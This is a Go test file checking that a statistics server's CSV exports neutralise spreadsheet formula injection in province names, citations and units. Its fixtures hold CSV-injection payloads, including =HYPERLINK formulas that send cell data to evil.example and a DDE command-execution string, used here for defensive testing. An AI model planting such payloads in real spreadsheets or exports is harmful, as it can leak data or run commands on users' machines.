package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/cadrestat/cadrestat/ingest"
)

// Text that a spreadsheet would run as a formula, loaded as province names, source titles,
// issuers, document numbers and quotes (all of which reach the CSV exports).
const (
	hyperlink  = `=HYPERLINK("http://evil.example/?d="&A1,"Báo cáo")`
	plusName   = `+84 Tỉnh thử`
	minusName  = `-Tỉnh thử`
	atName     = `@SUM(1+1)`
	hyperTitle = `=HYPERLINK("http://evil.example/","open")`
)

func injectionFiles() []ingest.File {
	provinces := "map,code,name,name_ascii,kind,region,valid_from,valid_to\n" +
		`VN63,97,"=HYPERLINK(""http://evil.example/?d=""&A1,""Báo cáo"")",Inj A,province,test,2008-08-01,2025-06-30` + "\n" +
		"VN63,98,+84 Tỉnh thử,Inj B,province,test,2008-08-01,2025-06-30\n" +
		"VN63,99,-Tỉnh thử,Inj C,province,test,2008-08-01,2025-06-30\n" +
		"VN63,03,@SUM(1+1),Inj D,province,test,2008-08-01,2025-06-30\n" +
		// A leading tab or carriage return is trimmed by ingest; what is left is still neutralised.
		"VN63,05,\"\t=1+1\",Inj E,province,test,2008-08-01,2025-06-30\n" +
		"VN63,07,\"\r=2+2\",Inj F,province,test,2008-08-01,2025-06-30\n"
	sources := "id,title,issuer,doc_number,date,language,location,kind,licence\n" +
		`inj-eq,"=HYPERLINK(""http://evil.example/"",""open"")",=cmd|' /C calc'!A0,=1+1,2024,vi,x,user,` + "\n" +
		"inj-plus,+SUM(1;2),@issuer,-7,2024,vi,x,user,\n" +
		"inj-minus,-2+3,+issuer,,2024,vi,x,user,\n" +
		"inj-at,@SUM(A1),Tester,,2024,vi,x,user,\n" +
		"inj-tab,\"\t=TAB()\",Tester,,2024,vi,x,user,\n" +
		"inj-cr,\"\r=CR()\",Tester,,2024,vi,x,user,\n"
	metrics := "id,name_en,name_vi,unit,kind,body,better,aggregation,level,description\n" +
		"inj_count,Injected amount,Lượng thử,@units,AMOUNT,test,HIGHER,NONE,provincial,\n"
	obs := "subject,metric,period,value,numerator,denominator,qualifier,status,source,quote,note\n" +
		"VN63-97,inj_count,2018,20,,,EXACT,PUBLISHED,inj-eq,=before,\n" +
		"VN63-97,inj_count,2020,11.5,,,EXACT,PUBLISHED,inj-eq,\"=HYPERLINK(\"\"http://evil.example/\"\")\",\n" +
		"VN63-98,inj_count,2020,5,,,EXACT,PUBLISHED,inj-plus,+quote,\n" +
		"VN63-99,inj_count,2020,6,,,EXACT,PUBLISHED,inj-minus,-quote,\n" +
		"VN63-03,inj_count,2020,7,,,EXACT,PUBLISHED,inj-at,@quote,\n" +
		"VN63-05,inj_count,2020,8,,,EXACT,PUBLISHED,inj-tab,q,\n" +
		"VN63-07,inj_count,2020,9,,,EXACT,PUBLISHED,inj-cr,q,\n"
	return []ingest.File{{Name: "p.csv", Data: []byte(provinces)}, {Name: "s.csv", Data: []byte(sources)},
		{Name: "m.csv", Data: []byte(metrics)}, {Name: "o.csv", Data: []byte(obs)}}
}

func getCSV(t *testing.T, ts *httptest.Server, path string) [][]string {
	t.Helper()
	resp, err := http.Get(ts.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 {
		t.Fatalf("GET %s: %d %s", path, resp.StatusCode, body)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("csv %s: %v %q", path, err, body)
	}
	return rows
}

// byColumn maps the unit rows of a CSV (header first) to column name -> value, keyed by
// province_id; a comparison's national and benchmark rows are left out (see byKind).
func byColumn(rows [][]string) map[string]map[string]string {
	return byKind(rows, "unit")
}

// byKind is byColumn for the rows of one row_kind ("unit" also takes files without one).
func byKind(rows [][]string, kind string) map[string]map[string]string {
	out := map[string]map[string]string{}
	for _, r := range rows[1:] {
		m := map[string]string{}
		for i, h := range rows[0] {
			m[h] = r[i]
		}
		if k, ok := m["row_kind"]; ok && k != kind || !ok && kind != "unit" {
			continue
		}
		out[m["province_id"]] = m
	}
	return out
}

// A cell that would start a formula must not: its first character is not one of
// = + - @ tab CR (the neutralising apostrophe is allowed).
func assertInert(t *testing.T, where, cell string) {
	t.Helper()
	if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
		t.Errorf("%s: cell %q would open as a formula", where, cell)
	}
}

func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	ts, svc := newServer(t)
	if rep, err := svc.Load(context.Background(), injectionFiles()); err != nil || !rep.OK() {
		t.Fatalf("load: %v %+v", err, rep)
	}
	wantName := map[string]string{"VN63-97": hyperlink, "VN63-98": plusName, "VN63-99": minusName, "VN63-03": atName, "VN63-05": "=1+1", "VN63-07": "=2+2"}
	wantTitle := map[string]string{"VN63-97": hyperTitle, "VN63-98": "+SUM(1;2)", "VN63-99": "-2+3", "VN63-03": "@SUM(A1)", "VN63-05": "=TAB()", "VN63-07": "=CR()"}
	const ids = "VN63-97,VN63-98,VN63-99,VN63-03,VN63-05,VN63-07"

	check := func(name string, rows [][]string, numeric []string) map[string]map[string]string {
		t.Helper()
		got := byColumn(rows)
		if len(got) != len(wantName) {
			t.Fatalf("%s: %d rows, want %d: %v", name, len(got), len(wantName), rows)
		}
		for _, r := range rows[1:] {
			for i, cell := range r {
				if !slices.Contains(numeric, rows[0][i]) {
					assertInert(t, name+" "+rows[0][i], cell)
				}
			}
		}
		for id, r := range got {
			if r["province"] != "'"+wantName[id] {
				t.Errorf("%s %s: province %q, want %q", name, id, r["province"], "'"+wantName[id])
			}
			// The citation starts with the title; issuer, number and quote follow inside it.
			if !strings.HasPrefix(r["citation"], "'"+wantTitle[id]+", ") {
				t.Errorf("%s %s: citation %q, want it to start with %q", name, id, r["citation"], "'"+wantTitle[id]+", ")
			}
		}
		if c := got["VN63-97"]["citation"]; !strings.Contains(c, "=cmd|' /C calc'!A0, số =1+1") || !strings.Contains(c, "=HYPERLINK(") {
			t.Errorf("%s: issuer, number and quote must stay inside the citation unchanged: %q", name, c)
		}
		return got
	}

	cmp := getCSV(t, ts, "/export/compare.csv?metric=inj_count&year=2020&provinces="+ids)
	got := check("compare", cmp, []string{"rank", "year", "value", "numerator", "denominator", "change", "gap_to_target"})
	// Numbers stay numbers: a fall of 8.5 is -8.5, not '-8.5.
	if r := got["VN63-97"]; r["change"] != "-8.5" || r["value"] != "11.5" || r["year"] != "2020" {
		t.Errorf("numeric cells altered: change %q value %q year %q", r["change"], r["value"], r["year"])
	}
	if u := got["VN63-98"]["unit"]; u != "'@units" {
		t.Errorf("unit %q, want '@units", u)
	}

	ser := getCSV(t, ts, "/export/series.csv?metric=inj_count&from=2018&to=2020&provinces="+ids)
	// One row per province and year with a figure: VN63-97 has 2018 and 2020.
	if len(ser) != 1+len(wantName)+1 {
		t.Fatalf("series: %d rows: %v", len(ser), ser)
	}
	for _, r := range ser[1:] {
		if r[0] == "VN63-97" && r[3] == "2018" && r[4] != "20" {
			t.Errorf("2018 value %q, want 20", r[4])
		}
	}
	check("series", ser, []string{"year", "value", "numerator", "denominator"})
}
